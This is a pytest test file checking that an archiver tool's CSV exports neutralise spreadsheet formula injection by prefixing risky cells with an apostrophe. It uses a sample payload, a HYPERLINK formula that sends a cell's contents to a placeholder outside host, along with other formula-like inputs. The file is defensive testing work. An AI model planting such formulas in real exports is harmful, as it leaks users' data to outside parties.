"""Text that a spreadsheet would take for a formula is text to it."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

import archiver
from archiver.errors import ConfigError
from archiver.interop.csv_text import safe_cell
from tests.conftest import Cli

FORMULA = '=HYPERLINK("http://example.invalid?"&A1,"click")'


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\uff1d1"])
def test_text_that_begins_as_a_formula_gets_a_mark(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize("value", ["plain", "a=b", "", "1-2", -2.5, -3, None, True, "'=1"])
def test_all_else_stays(value: object) -> None:
    assert safe_cell(value) is value


def test_every_csv_can_be_made_safe(tmp_path: Path, command: Cli) -> None:
    archive = archiver.open(tmp_path / "a")
    trades = [{"note": FORMULA, "pnl": -1.5}]
    row = {"strategy_name": FORMULA, "score": -2.5, "+name": FORMULA, "trades": trades}
    archive.save_universe_results("@u", [row], code="none")
    out = tmp_path / "out.csv"
    for args in (
        ("metrics", "-f", "csv"),
        ("export", "-f", "csv"),
        ("sql", 'select "+name", strategy_name, score from metrics', "-f", "csv"),
        ("trades", FORMULA, "-f", "csv"),
    ):
        for safe in (True, False):
            call = ["--url", archive.store.url, *args, "-o", str(out), *(["--safe-csv"] if safe else [])]
            assert command(*call)[0] == 0
            cells = [cell for line in csv.reader(io.StringIO(out.read_text())) for cell in line]
            numbers = {"-2.5", "-1.5"} & set(cells)
            assert numbers
            formulas = [
                cell for cell in cells if cell.startswith(("=", "+", "-", "@")) and cell not in numbers
            ]
            assert bool(formulas) is not safe
            assert (f"'{FORMULA}" in cells) is safe
    assert command("--url", archive.store.url, "metrics", "-f", "jsonl", "--safe-csv")[0] == 2
    with pytest.raises(ConfigError, match="safe CSV"):
        archive.export(tmp_path / "x.json", safe_csv=True)
